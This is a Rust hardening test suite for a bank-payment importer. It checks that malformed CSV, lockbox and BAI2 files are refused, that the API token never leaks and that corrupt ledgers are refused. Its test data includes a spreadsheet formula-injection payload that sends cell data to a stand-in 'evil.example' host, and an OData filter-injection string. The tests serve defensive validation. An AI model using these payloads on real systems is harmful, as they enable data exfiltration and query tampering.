//! Hardening (issue #7): malformed bank files are refused with a message naming the file, line
//! and field, and nothing of a refused file is sent; the token never leaks; the ledger is
//! refused, not recreated, when it cannot be trusted; size bounds hold.
//!
//! The corpus lives in `tests/data/bad/{csv,lockbox,bai2}/` (built by `make_corpus.py`
//! there); [`CSV`], [`LOCKBOX`] and [`BAI2`] give the expected outcome of every file, and
//! `every_corpus_file_has_an_expectation` keeps the two in step.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use payimport::sandbox::{Fault, SandboxConfig};

use crate::util::{Env, Limits, Record, parse_report, valid_csv};

/// The sources the corpus is read with, besides `bank_csv` (loan ids, default headers).
const SOURCES: &str = r#"
[sources.lockbox]
format = "lockbox"
loan = "display_id"

[sources.lockbox_wide]
format = "lockbox"
loan = "display_id"
[sources.lockbox_wide.layout]
detail_amount = [8, 26]

[sources.ach]
format = "bai2"
loan = "id"
type_codes = [165, 175]
"#;

/// What importing a corpus file must do.
#[derive(Debug, Clone, Copy)]
enum Expect {
    /// Exit 2; stdout says `file refused: FILE:LINE: MESSAGE...` (`FILE: MESSAGE` without a
    /// line); nothing of the file is staged, looked up or sent.
    Refused(Option<u64>, &'static str),
    /// Exit 1; the row on `line` is rejected for `field` (showing `value`, `None` for an empty
    /// cell) with a message containing `message`; every other row (`posted` of them) is posted.
    Rejected {
        line: u64,
        field: &'static str,
        value: Option<&'static str>,
        message: &'static str,
        posted: u64,
    },
    /// Exit 1; the row on `line` names a display id that matches no loan (`value`): it is
    /// rejected as unidentified after one look-up; the other rows (`posted`) are posted.
    Unidentified {
        line: u64,
        value: &'static str,
        posted: u64,
    },
    /// Exit 0; this many rows posted, nothing else.
    Posted(u64),
}

use Expect::{Posted, Refused, Rejected, Unidentified};

/// One corpus file: its name, the source that reads it, what must happen.
type Case = (&'static str, &'static str, Expect);

const fn rejected(
    line: u64,
    field: &'static str,
    value: &'static str,
    message: &'static str,
) -> Expect {
    Rejected {
        line,
        field,
        value: Some(value),
        message,
        posted: 2,
    }
}

const NOT_AN_AMOUNT: &str = "expected an amount such as 1234.50, 1,234.50 or $1,234.50";
const NOT_A_DATE: &str = "is not a valid date in any of the formats %Y-%m-%d, %m/%d/%Y";
const NOT_A_LOAN_ID: &str = "is not a LoanPro loan id: expected a positive whole number";
const NOT_UTF8: &str =
    "the text is not UTF-8 (the file may be Latin-1 or UTF-16); save it as UTF-8";
const NUL: &str = "the line holds a NUL byte: this is a binary file or UTF-16 text, not a UTF-8 CSV; save it as UTF-8";
const NO_ROWS: &str =
    "the file has a header row but no payment rows; it may have been cut short in transfer";

const CSV: &[Case] = &[
    ("latin1.csv", "bank_csv", Refused(Some(3), NOT_UTF8)),
    ("utf16le_bom.csv", "bank_csv", Refused(Some(1), NUL)),
    ("utf16be.csv", "bank_csv", Refused(Some(1), NUL)),
    ("nul_byte.csv", "bank_csv", Refused(Some(3), NUL)),
    ("binary.csv", "bank_csv", Refused(Some(3), NUL)),
    // A CR alone ends a line (docs/loanpro.md): an old Mac export reads like any other.
    ("cr_line_endings.csv", "bank_csv", Posted(2)),
    (
        "empty.csv",
        "bank_csv",
        Refused(None, "the file is empty; expected a header row"),
    ),
    (
        "blank_lines.csv",
        "bank_csv",
        Refused(None, "the file is empty; expected a header row"),
    ),
    ("header_only.csv", "bank_csv", Refused(Some(1), NO_ROWS)),
    (
        "empty_cells_only.csv",
        "bank_csv",
        Refused(Some(1), NO_ROWS),
    ),
    (
        "ragged_short_row.csv",
        "bank_csv",
        Rejected {
            line: 3,
            field: "date",
            value: None,
            message: NOT_A_DATE,
            posted: 2,
        },
    ),
    (
        "ragged_long_row.csv",
        "bank_csv",
        Refused(
            Some(3),
            "the row has 4 cells but the header only 3, and cell 4 holds \"234.50\": a comma inside an unquoted value (such as 1,234.50) shifts the cells; quote that value",
        ),
    ),
    (
        "long_line_1mb.csv",
        "bank_csv",
        Refused(
            Some(1),
            "the line is longer than 64 KiB; this is not a payment file",
        ),
    ),
    (
        "unterminated_quote.csv",
        "bank_csv",
        Refused(
            Some(2),
            "a quoted cell opened on this line is never closed: a closing quote is missing",
        ),
    ),
    (
        "quote_runs_on.csv",
        "bank_csv",
        Refused(
            Some(4372),
            "the quoted cell opened on line 3 runs on for more than 64 KiB; is its closing quote missing?",
        ),
    ),
    (
        "duplicate_headers.csv",
        "bank_csv",
        Refused(
            Some(1),
            "header \"amount\" (field `amount`) appears twice, in columns 2 and 4",
        ),
    ),
    (
        "duplicate_optional_header.csv",
        "bank_csv",
        Refused(
            Some(1),
            "header \"reference\" (field `reference`) appears twice, in columns 4 and 5",
        ),
    ),
    (
        "missing_amount_column.csv",
        "bank_csv",
        Refused(
            Some(1),
            "no column \"amount\" for the required field `amount`; the header has \"loan\", \"date\", \"reference\"",
        ),
    ),
    (
        "preamble_line.csv",
        "bank_csv",
        Refused(
            Some(1),
            "no column \"loan\" for the required field `loan`; the header has \"Bank of Example - payments export 2026-11-20\"",
        ),
    ),
    (
        "semicolons.csv",
        "bank_csv",
        Refused(
            Some(1),
            "no column \"loan\" for the required field `loan`; the header has \"loan;amount;date\"; the cells seem to be separated by ';': set `delimiter` for this source",
        ),
    ),
    (
        "amount_exponent.csv",
        "bank_csv",
        rejected(3, "amount", "1e9", NOT_AN_AMOUNT),
    ),
    (
        "amount_nan.csv",
        "bank_csv",
        rejected(3, "amount", "NaN", NOT_AN_AMOUNT),
    ),
    (
        "amount_infinity.csv",
        "bank_csv",
        rejected(3, "amount", "inf", NOT_AN_AMOUNT),
    ),
    (
        "amount_arabic_digits.csv",
        "bank_csv",
        rejected(3, "amount", "\u{661}\u{662}\u{663}", NOT_AN_AMOUNT),
    ),
    (
        "amount_fullwidth_digits.csv",
        "bank_csv",
        rejected(3, "amount", "\u{ff11}\u{ff12}\u{ff13}", NOT_AN_AMOUNT),
    ),
    (
        "amount_double_minus.csv",
        "bank_csv",
        rejected(3, "amount", "--5", "must be greater than zero"),
    ),
    (
        "amount_three_decimals.csv",
        "bank_csv",
        rejected(3, "amount", "10.005", "has more than two decimals"),
    ),
    (
        "amount_zero.csv",
        "bank_csv",
        rejected(3, "amount", "0.00", "must be greater than zero"),
    ),
    (
        "amount_overflows_i64.csv",
        "bank_csv",
        rejected(3, "amount", "92233720368547758.08", "is too large"),
    ),
    (
        "amount_european.csv",
        "bank_csv",
        rejected(3, "amount", "1.234,50", NOT_AN_AMOUNT),
    ),
    (
        "date_feb_30.csv",
        "bank_csv",
        rejected(3, "date", "2026-02-30", NOT_A_DATE),
    ),
    (
        "date_far_future.csv",
        "bank_csv",
        rejected(3, "date", "2099-01-01", "is more than 7 days in the future"),
    ),
    (
        "date_with_time.csv",
        "bank_csv",
        rejected(3, "date", "2026-11-20T10:00:00", NOT_A_DATE),
    ),
    (
        "loan_huge.csv",
        "bank_csv",
        rejected(
            3,
            "loan",
            "99999999999999999999999",
            "is too large for a LoanPro loan id",
        ),
    ),
    (
        "loan_i64_overflow.csv",
        "bank_csv",
        rejected(
            3,
            "loan",
            "9223372036854775808",
            "is too large for a LoanPro loan id",
        ),
    ),
    (
        "loan_negative.csv",
        "bank_csv",
        rejected(3, "loan", "-7", NOT_A_LOAN_ID),
    ),
    (
        "loan_decimal.csv",
        "bank_csv",
        rejected(3, "loan", "7.0", NOT_A_LOAN_ID),
    ),
    (
        "payment_method_huge.csv",
        "bank_csv",
        Rejected {
            line: 3,
            field: "payment_method_id",
            value: Some("99999999999"),
            message: "expected a whole-number id from the settings file",
            posted: 1,
        },
    ),
    (
        "formula_amount.csv",
        "bank_csv",
        rejected(
            3,
            "amount",
            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"refund\")",
            NOT_AN_AMOUNT,
        ),
    ),
    (
        "formula_loan.csv",
        "bank_csv",
        rejected(3, "loan", "=1+2", NOT_A_LOAN_ID),
    ),
    // A formula in free text is sent as text; the report neutralises it (see the test below).
    ("formula_reference.csv", "bank_csv", Posted(3)),
];

const LOCKBOX: &[Case] = &[
    (
        "empty.lbx",
        "lockbox",
        Refused(
            None,
            "the file is empty; expected a lockbox transmission starting with a file header (1) record",
        ),
    ),
    (
        "truncated_mid_record.lbx",
        "lockbox",
        Refused(
            Some(5),
            "the file ends without a file trailer (9) record; it may be truncated",
        ),
    ),
    (
        "truncated_before_trailer.lbx",
        "lockbox",
        Refused(
            Some(8),
            "the file ends without a file trailer (9) record; it may be truncated",
        ),
    ),
    (
        "nul_padded.lbx",
        "lockbox",
        Refused(Some(6), "an unknown record type \"\\0\""),
    ),
    (
        "latin1.lbx",
        "lockbox",
        Refused(
            Some(3),
            "the record is not ASCII/UTF-8 text (the file may be EBCDIC or Latin-1)",
        ),
    ),
    (
        "utf16le.lbx",
        "lockbox",
        Refused(
            Some(1),
            "the record is not ASCII/UTF-8 text (the file may be EBCDIC or Latin-1)",
        ),
    ),
    (
        "binary.lbx",
        "lockbox",
        Refused(
            Some(1),
            "the record is not ASCII/UTF-8 text (the file may be EBCDIC or Latin-1)",
        ),
    ),
    (
        "long_line_1mb.lbx",
        "lockbox",
        Refused(
            Some(1),
            "the line is longer than 1024 characters; this is not a lockbox record",
        ),
    ),
    (
        "amount_letters.lbx",
        "lockbox",
        Refused(
            Some(3),
            "detail_amount (columns 8-17) must be digits only, got \"00000O2500\"",
        ),
    ),
    (
        "deposit_date_feb_30.lbx",
        "lockbox",
        Refused(
            Some(2),
            "lockbox_deposit_date (columns 15-20) is not a valid YYMMDD date: \"260230\"",
        ),
    ),
    (
        "detail_before_lockbox_header.lbx",
        "lockbox",
        Refused(
            Some(2),
            "a detail (6) record before any lockbox header (5): \"6001001",
        ),
    ),
    (
        "csv_given_as_lockbox.lbx",
        "lockbox",
        Refused(
            Some(1),
            "an unknown record type \"l\": \"loan,amount,date,reference\"",
        ),
    ),
    (
        "trailer_count_not_digits.lbx",
        "lockbox",
        Refused(
            Some(7),
            "trailer_record_count (columns 2-7) must be digits only, got \"00OO07\"",
        ),
    ),
    (
        "control_total_mismatch.lbx",
        "lockbox",
        Refused(
            Some(7),
            "batch 001 of lockbox 1234567 amount: stated 373.46, computed 373.45",
        ),
    ),
    (
        "totals_overflow_i64.lbx",
        "lockbox_wide",
        Refused(
            Some(5),
            "the amount total of batch 001 of lockbox 1234567 is too large to be added up",
        ),
    ),
    // OData injection through the coupon's loan number: the quotes are doubled, so the
    // filter matches no loan (not every loan) and the payment goes to suspense.
    (
        "display_id_injection.lbx",
        "lockbox",
        Unidentified {
            line: 5,
            value: "X' or displayId ne 'Y",
            posted: 1,
        },
    ),
    (
        "formula_loan_number.lbx",
        "lockbox",
        Unidentified {
            line: 5,
            value: "=HYPERLINK(\"x\")",
            posted: 1,
        },
    ),
];

const BAI2: &[Case] = &[
    (
        "empty.bai",
        "ach",
        Refused(
            None,
            "the file is empty; expected a BAI2 file beginning with a 01 file header",
        ),
    ),
    (
        "truncated_mid_record.bai",
        "ach",
        Refused(
            Some(5),
            "the file ends inside account 123456789 of group 1, without its 49, 98 and 99 trailers; it may be truncated",
        ),
    ),
    (
        "truncated_after_account.bai",
        "ach",
        Refused(
            Some(6),
            "the file ends inside group 1, without its 98 and 99 trailers; it may be truncated",
        ),
    ),
    (
        "nul_padded.bai",
        "ach",
        Refused(
            Some(5),
            "the file ends inside account 123456789 of group 1, without its 49, 98 and 99 trailers; it may be truncated",
        ),
    ),
    (
        "latin1.bai",
        "ach",
        Refused(
            Some(5),
            "the line is not UTF-8 text (BAI2 files are plain ASCII): byte 0xC9 at column 30",
        ),
    ),
    (
        "utf16le.bai",
        "ach",
        Refused(
            Some(1),
            "the line is not UTF-8 text (BAI2 files are plain ASCII): byte 0xFF at column 1",
        ),
    ),
    (
        "binary.bai",
        "ach",
        Refused(
            Some(1),
            "the line is not UTF-8 text (BAI2 files are plain ASCII)",
        ),
    ),
    (
        "long_line.bai",
        "ach",
        Refused(
            Some(1),
            "the line is longer than 1048576 bytes; this is not a BAI2 file",
        ),
    ),
    (
        "amount_decimal_point.bai",
        "ach",
        // Validation would read 1500.00 as an amount, but BAI2 amounts have no point.
        Refused(
            Some(4),
            "amount \"1500.00\" of the 16 transaction detail is not a whole number",
        ),
    ),
    (
        "amount_huge.bai",
        "ach",
        // An amount that cannot be read is the row's trouble (docs/formats.md); the totals, which
        // count it as zero, agree here.
        Rejected {
            line: 4,
            field: "amount",
            value: Some("99999999999999999999"),
            message: "is too large",
            posted: 0,
        },
    ),
    (
        "totals_overflow_i64.bai",
        "ach",
        Refused(
            Some(5),
            "the amounts add up past what payimport can count (more than 92 quadrillion)",
        ),
    ),
    (
        "total_not_a_number.bai",
        "ach",
        Refused(
            Some(6),
            "account control total \"99999999999999999999\" in the 49 account trailer is not a whole number",
        ),
    ),
    (
        "as_of_feb_30.bai",
        "ach",
        Refused(
            Some(2),
            "as-of date \"260230\" in the 02 group header is not a valid YYMMDD date",
        ),
    ),
    (
        "csv_given_as_bai2.bai",
        "ach",
        Refused(
            Some(1),
            "the file does not begin with a 01 file header; is this a BAI2 file?",
        ),
    ),
    (
        "orphan_continuation.bai",
        "ach",
        Refused(
            Some(1),
            "an 88 continuation with no record before it to continue",
        ),
    ),
    (
        "record_after_trailer.bai",
        "ach",
        Refused(Some(9), "a record after the 99 file trailer"),
    ),
    (
        "wrong_file_total.bai",
        "ach",
        Refused(Some(8), "file amount: stated 1750.01, computed 1750.00"),
    ),
    (
        "loan_huge.bai",
        "ach",
        Rejected {
            line: 4,
            field: "loan",
            value: Some("99999999999999999999999"),
            message: "is too large for a LoanPro loan id",
            posted: 1,
        },
    ),
    (
        "loan_formula.bai",
        "ach",
        Rejected {
            line: 4,
            field: "loan",
            value: Some("=HYPERLINK(\"x\")"),
            message: NOT_A_LOAN_ID,
            posted: 1,
        },
    ),
    (
        "loan_arabic_digits.bai",
        "ach",
        Rejected {
            line: 4,
            field: "loan",
            value: Some("\u{664}\u{668}\u{662}"),
            message: NOT_A_LOAN_ID,
            posted: 1,
        },
    ),
];

/// Imports one corpus file in a world of its own and checks what happened; `Err` says how it
/// differs from what was expected.
async fn check(folder: &str, (name, source, expect): Case) -> Result<(), String> {
    let env = Env::new().await;
    env.add_settings(SOURCES);
    env.fixture(&format!("bad/{folder}/{name}"));
    // The file as the operator names it, relative to the run's folder: messages show it so.
    let r = env.run(&["import", "--source", source, name]).await;
    let shown = format!(
        "exit {}\n--- stdout\n{}--- stderr\n{}",
        r.code, r.stdout, r.stderr
    );
    let fail = |what: String| Err(format!("{folder}/{name}: {what}\n{shown}"));
    let report = env.run(&["report"]).await;
    if report.code != 0 {
        return fail(format!("report failed: {}", report.stderr));
    }
    let rows = parse_report(&report.stdout);
    let stats = env.sandbox.stats();
    match expect {
        Refused(line, message) => {
            let at = line.map(|l| format!(":{l}")).unwrap_or_default();
            let wanted = format!("file refused: {name}{at}: {message}");
            if r.code != 2 {
                return fail(format!("exit {} where 2 was expected", r.code));
            }
            if !r.stdout.contains(&wanted) {
                return fail(format!("stdout lacks {wanted:?}"));
            }
            if !r.stdout.contains("nothing of it was sent") {
                return fail("stdout does not say that nothing of it was sent".into());
            }
            if stats.puts + stats.gets != 0 || !env.sandbox.payments().is_empty() {
                return fail(format!("{} PUTs, {} GETs sent", stats.puts, stats.gets));
            }
            if !rows.is_empty() {
                return fail(format!("{} rows staged from a refused file", rows.len()));
            }
            let json = env.run(&["report", "--format", "json"]).await;
            let v: serde_json::Value = serde_json::from_str(&json.stdout)
                .map_err(|e| format!("{name}: json report: {e}"))?;
            if v["summary"][0]["files"][0]["status"] != "refused" {
                return fail(format!(
                    "the JSON report does not show the file refused: {}",
                    v["summary"]
                ));
            }
        }
        Rejected {
            line,
            field,
            value,
            message,
            posted,
        } => {
            if r.code != 1 {
                return fail(format!("exit {} where 1 was expected", r.code));
            }
            let Some(row) = rows.iter().find(|r| r.get("line") == line.to_string()) else {
                return fail(format!("no report row for line {line}"));
            };
            let named = match value {
                Some(v) => format!("field `{field}` value {v:?}: "),
                None => format!("field `{field}` is empty: "),
            };
            let said = row.get("message");
            if row.get("status") != "rejected" || !said.starts_with(&named) {
                return fail(format!(
                    "line {line} is {} with {said:?}, not rejected with {named:?}",
                    row.get("status")
                ));
            }
            if !said.contains(message) {
                return fail(format!("line {line}: {said:?} lacks {message:?}"));
            }
            if !r.stdout.contains(&format!("{name}:{line} rejected")) {
                return fail(format!("the summary does not list {name}:{line}"));
            }
            let others = posted_elsewhere(&rows, line);
            if stats.puts != posted
                || others != posted
                || env.sandbox.payments().len() as u64 != posted
            {
                return fail(format!(
                    "{} PUTs and {others} other rows posted where {posted} were expected",
                    stats.puts
                ));
            }
        }
        Unidentified {
            line,
            value,
            posted,
        } => {
            if r.code != 1 {
                return fail(format!("exit {} where 1 was expected", r.code));
            }
            let Some(row) = rows.iter().find(|r| r.get("line") == line.to_string()) else {
                return fail(format!("no report row for line {line}"));
            };
            let wanted = format!(
                "field `loan` value {value:?}: unidentified: no loan in LoanPro has this display id"
            );
            if row.get("status") != "rejected" || !row.get("message").starts_with(&wanted) {
                return fail(format!(
                    "line {line}: {row:?} is not rejected with {wanted:?}"
                ));
            }
            if !r.stdout.contains(&format!("{name}:{line} rejected")) {
                return fail(format!("the summary does not list {name}:{line}"));
            }
            let others = posted_elsewhere(&rows, line);
            // One look-up per display id, one PUT per identified payment.
            if stats.puts != posted || others != posted || stats.gets != posted + 1 {
                return fail(format!(
                    "{} PUTs, {} GETs and {others} other rows posted where {posted} were expected",
                    stats.puts, stats.gets
                ));
            }
        }
        Posted(n) => {
            if r.code != 0 || stats.puts != n || rows.len() as u64 != n {
                return fail(format!(
                    "{} PUTs, {} rows where {n} posted rows were expected",
                    stats.puts,
                    rows.len()
                ));
            }
        }
    }
    Ok(())
}

/// Rows posted other than the one on `line`, when every other row is posted; else `u64::MAX`.
fn posted_elsewhere(rows: &[Record], line: u64) -> u64 {
    let others: Vec<_> = rows
        .iter()
        .filter(|r| r.get("line") != line.to_string())
        .collect();
    if others.iter().all(|r| r.get("status") == "posted") {
        others.len() as u64
    } else {
        u64::MAX
    }
}

/// Checks every case, a few at a time, and reports every file that fails, not only the first.
async fn check_all(folder: &'static str, cases: &'static [Case]) {
    let mut failures = Vec::new();
    for chunk in cases.chunks(4) {
        let mut set = tokio::task::JoinSet::new();
        for case in chunk {
            set.spawn(check(folder, *case));
        }
        while let Some(result) = set.join_next().await {
            if let Err(e) = result.expect("case runs") {
                failures.push(e);
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} {folder} files:\n\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n\n")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_csv_files_are_refused_or_their_rows_rejected() {
    check_all("csv", CSV).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_lockbox_files_are_refused_or_their_rows_rejected() {
    check_all("lockbox", LOCKBOX).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_bai2_files_are_refused_or_their_rows_rejected() {
    check_all("bai2", BAI2).await;
}

fn corpus_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/data/bad")
}

#[test]
fn every_corpus_file_has_an_expectation() {
    let mut total = 0;
    for (folder, cases) in [("csv", CSV), ("lockbox", LOCKBOX), ("bai2", BAI2)] {
        let files: BTreeSet<String> = std::fs::read_dir(corpus_dir().join(folder))
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .collect();
        let named: BTreeSet<String> = cases.iter().map(|c| c.0.to_string()).collect();
        assert_eq!(named.len(), cases.len(), "{folder}: a file is listed twice");
        assert_eq!(
            files, named,
            "{folder}: corpus files and expectations differ"
        );
        total += files.len();
    }
    assert!(total >= 40, "the corpus has {total} files");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_in_free_text_is_sent_as_text_and_neutralised_in_the_report() {
    let env = Env::new().await;
    env.fixture("bad/csv/formula_reference.csv");
    let r = env.run(&["import", "formula_reference.csv"]).await;
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    let p = env
        .sandbox
        .payments()
        .into_iter()
        .find(|p| p.loan_id == 2)
        .unwrap();
    assert!(
        p.info
            .starts_with("2026-11-20 bank_csv =HYPERLINK(\"http://evil.example/\",\"x\") [k:"),
        "{}",
        p.info
    );
    let rows = env.report(&[]).await;
    let row = rows.iter().find(|r| r.get("loan") == "2").unwrap();
    assert_eq!(
        row.get("reference"),
        "'=HYPERLINK(\"http://evil.example/\",\"x\")"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_good_file_beside_a_refused_one_still_goes_through() {
    let env = Env::new().await;
    let good = env.write("good.csv", &valid_csv(3));
    env.fixture("bad/csv/unterminated_quote.csv");
    let r = env
        .run(&["import", good.to_str().unwrap(), "unterminated_quote.csv"])
        .await;
    assert_eq!(r.code, 2, "{}\n{}", r.stdout, r.stderr);
    assert!(
        r.stdout
            .contains("file refused: unterminated_quote.csv:2: a quoted cell opened on this line is never closed"),
        "{}",
        r.stdout
    );
    assert_eq!(env.sandbox.stats().puts, 3, "only the good file's rows");
}

// ---------------------------------------------------------------------------------------------
// Size bounds.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_over_2_gib_is_refused_before_it_is_read() {
    let env = Env::new().await;
    let path = env.path("huge.csv");
    let f = std::fs::File::create(&path).unwrap();
    // Sparse: no disk space used, and the reader never gets to it.
    f.set_len((2 << 30) + 1).unwrap();
    drop(f);
    let r = env.run(&["import", "huge.csv"]).await;
    assert_eq!(r.code, 2, "{}\n{}", r.stdout, r.stderr);
    assert!(
        r.stdout.contains(
            "file refused: huge.csv: the file is 2147483649 bytes; files over 2 GiB are refused as not a bank payment file"
        ),
        "{}",
        r.stdout
    );
    assert_eq!(env.sandbox.stats().puts, 0);
}

// ---------------------------------------------------------------------------------------------
// Secrets: the token comes from the environment only and appears in no output or file.

const SECRET: &str = "tok-SECRET-9f8e7d";

/// Every file the runs left in the test folder (ledger, its -wal/-shm and lock, reports).
fn files_in(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_file() {
            out.push((p.clone(), std::fs::read(&p).unwrap()));
        }
    }
    out
}

fn assert_no_secret(what: &str, text: &[u8]) {
    let found = text.windows(SECRET.len()).any(|w| w == SECRET.as_bytes());
    assert!(
        !found,
        "the token appears in {what}:\n{}",
        String::from_utf8_lossy(text)
    );
}

#[test]
fn the_client_settings_print_without_the_token() {
    let config = payimport::loanpro::ClientConfig {
        base_url: "https://loanpro.example/api".into(),
        tenant_id: "1".into(),
        token: payimport::settings::Token::new(SECRET),
        timeout: std::time::Duration::from_secs(1),
        requests_per_second: 1.0,
    };
    let shown = format!("{config:?} {config:#?}");
    assert_no_secret("ClientConfig's Debug", shown.as_bytes());
    assert!(shown.contains("<redacted>"), "{shown}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_token_appears_in_no_output_log_ledger_or_report() {
    let config = SandboxConfig {
        token: SECRET.into(),
        ..SandboxConfig::default()
    };
    let env = Env::with(config, Limits::default()).await;
    env.add_settings(SOURCES);
    assert!(
        !std::fs::read_to_string(&env.settings)
            .unwrap()
            .contains(SECRET),
        "the settings file names the variable, not the token"
    );
    // Uncertain outcomes, so that the runs read payments back (GETs with the token) too; a
    // lockbox so that display ids are looked up.
    env.sandbox
        .push_faults([Fault::ErrorAfterCommit, Fault::DropAfterCommit]);
    // A rejected row too, for a debug line.
    let csv = env.write(
        "bank.csv",
        &format!("{}5,abc,2026-11-20,x\n", valid_csv(20)),
    );
    env.fixture("lockbox/good.lbx");
    let mut outputs: Vec<(String, Vec<u8>)> = Vec::new();
    let mut record = |what: String, r: crate::util::Run| {
        outputs.push((format!("{what} stdout"), r.stdout.into_bytes()));
        outputs.push((format!("{what} stderr"), r.stderr.into_bytes()));
    };

    let r = env
        .run(&[
            "-vvv",
            "import",
            "--source",
            "bank_csv",
            csv.to_str().unwrap(),
        ])
        .await;
    assert!(r.code <= 1, "{}\n{}", r.stdout, r.stderr);
    assert!(
        r.stderr.contains("DEBUG"),
        "-vvv logs at debug level and below: {}",
        r.stderr
    );
    record("import -vvv".into(), r);
    // New payments each time, so that requests are made under trace logging.
    env.write(
        "bank2.csv",
        "loan,amount,date,reference\n901,77.00,2026-11-20,z1\n902,78.00,2026-11-20,z2\n",
    );
    for (format, source, file) in [
        ("text", "lockbox", "good.lbx"),
        ("json", "bank_csv", "bank2.csv"),
    ] {
        env.sandbox.push_faults([Fault::ErrorAfterCommit]);
        let (r, _) = env
            .run_with_env(
                &[("RUST_LOG", "trace")],
                &[
                    "--log-format",
                    format,
                    "-vvv",
                    "import",
                    "--source",
                    source,
                    file,
                ],
            )
            .await;
        assert!(r.code <= 1, "{}\n{}", r.stdout, r.stderr);
        assert!(
            r.stderr.contains("idle connection"),
            "RUST_LOG=trace logs the HTTP stack too: {}",
            &r.stderr[..r.stderr.len().min(2000)]
        );
        record(format!("import RUST_LOG=trace --log-format {format}"), r);
    }
    let (r, _) = env
        .run_with_env(&[("RUST_LOG", "trace")], &["-vvv", "retry"])
        .await;
    record("retry RUST_LOG=trace".into(), r);
    // A refused token: its error path must not echo it either.
    env.write(
        "bank3.csv",
        "loan,amount,date,reference\n903,79.00,2026-11-20,z3\n",
    );
    let mut c = env.command(&["-vvv", "import", "--source", "bank_csv", "bank3.csv"]);
    c.env("RUST_LOG", "trace")
        .env("TEST_LOANPRO_TOKEN", format!("{SECRET}-wrong"));
    let r = crate::util::Run::from(c.output().await.unwrap());
    assert_eq!(r.code, 2, "{}\n{}", r.stdout, r.stderr);
    record("import with a refused token".into(), r);

    for args in [
        &["report"][..],
        &["report", "--format", "json"],
        &["report", "--output", "report.csv"],
        &["report", "--format", "json", "--output", "report.json"],
        &["runs"],
    ] {
        let mut all = vec!["-vvv"];
        all.extend_from_slice(args);
        let (r, _) = env.run_with_env(&[("RUST_LOG", "trace")], &all).await;
        assert_eq!(r.code, 0, "{args:?}: {}", r.stderr);
        record(format!("{args:?}"), r);
    }
    assert!(env.sandbox.stats().gets > 0, "the runs read payments back");
    assert!(env.path("report.csv").exists() && env.path("report.json").exists());

    for (what, bytes) in &outputs {
        assert_no_secret(what, bytes);
    }
    let files = files_in(env.dir.path());
    assert!(
        files
            .iter()
            .any(|(p, _)| p.file_name().unwrap() == "ledger.sqlite"),
        "{files:?}"
    );
    for (path, bytes) in files {
        assert_no_secret(&path.display().to_string(), &bytes);
    }
}

// ---------------------------------------------------------------------------------------------
// The ledger's open path: a ledger it cannot trust is refused and left as it is.

/// A ledger with some runs in it, closed (its WAL checkpointed into the file).
async fn env_with_ledger(rows: usize) -> Env {
    let env = Env::new().await;
    let file = env.write("bank.csv", &valid_csv(rows));
    let r = env.run(&["import", file.to_str().unwrap()]).await;
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    assert!(
        !env.path("ledger.sqlite-wal").exists()
            || std::fs::metadata(env.path("ledger.sqlite-wal"))
                .unwrap()
                .len()
                == 0,
        "the last connection checkpoints the WAL"
    );
    env
}

/// Every command that opens the ledger.
const ALL: &[&str] = &["import", "retry", "report", "runs"];

/// Runs `commands` on a ledger that must be refused: each exits 2 with a message naming the
/// ledger and containing `message`; nothing is sent, and the file is left byte for byte as it
/// was (not repaired, not recreated).
async fn assert_ledger_refused(env: &Env, commands: &[&str], message: &str) {
    let before = std::fs::read(env.ledger()).unwrap();
    let puts = env.sandbox.stats().puts;
    let file = env.write("more.csv", "loan,amount,date\n1,1.00,2026-11-20\n");
    for command in commands {
        let args = match *command {
            "import" => vec!["import", file.to_str().unwrap()],
            other => vec![other],
        };
        let r = env.run(&args).await;
        assert_eq!(r.code, 2, "{args:?}\n{}\n{}", r.stdout, r.stderr);
        let ledger = env.ledger().display().to_string();
        assert!(
            r.stderr.contains(&format!("ledger {ledger}")) && r.stderr.contains(message),
            "{args:?}: stderr names neither the ledger nor {message:?}:\n{}",
            r.stderr
        );
        assert!(!r.stderr.contains("panicked"), "{}", r.stderr);
        assert_eq!(
            std::fs::read(env.ledger()).unwrap(),
            before,
            "{args:?} changed the ledger file"
        );
    }
    assert_eq!(env.sandbox.stats().puts, puts, "nothing sent");
}

fn set_user_version(path: &Path, version: i64) {
    let conn = rusqlite::Connection::open(path).unwrap();
    conn.pragma_update(None, "user_version", version).unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_ledger_from_a_newer_schema_is_refused() {
    let env = env_with_ledger(3).await;
    set_user_version(&env.ledger(), 99);
    assert_ledger_refused(
        &env,
        ALL,
        "was written by a newer payimport (schema version 99, this one knows up to",
    )
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_ledger_of_random_bytes_is_refused_not_recreated() {
    let env = Env::new().await;
    let noise: Vec<u8> = (0..16_384u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    std::fs::write(env.ledger(), &noise).unwrap();
    assert_ledger_refused(
        &env,
        ALL,
        "is not a payimport ledger: it is not a SQLite database",
    )
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_truncated_ledger_is_refused_not_recreated() {
    let env = env_with_ledger(3000).await;
    let bytes = std::fs::read(env.ledger()).unwrap();
    assert!(bytes.len() > 100_000, "{} bytes", bytes.len());
    // Cut at a page boundary, as a full disk or a partial copy would.
    std::fs::write(env.ledger(), &bytes[..bytes.len() / 2 / 4096 * 4096]).unwrap();
    assert_ledger_refused(&env, ALL, "is truncated: its header gives").await;
}

